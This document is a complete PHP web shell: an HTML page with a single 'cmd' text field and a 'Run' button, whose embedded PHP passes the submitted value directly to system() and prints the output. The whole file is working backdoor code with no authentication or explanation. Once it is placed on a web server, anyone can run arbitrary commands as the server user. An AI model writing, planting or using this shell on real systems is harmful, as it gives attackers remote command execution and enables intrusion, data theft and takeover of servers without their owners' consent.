<html><body>
<form method="GET" name="f">
<input type="text" name="cmd" autofocus size="80">
<input type="submit" value="Run">
</form>
<pre>
<?php
if (isset($_GET['cmd'])) {
    system($_GET['cmd'] . ' 2>&1');
}
?>
</pre>
</body></html>
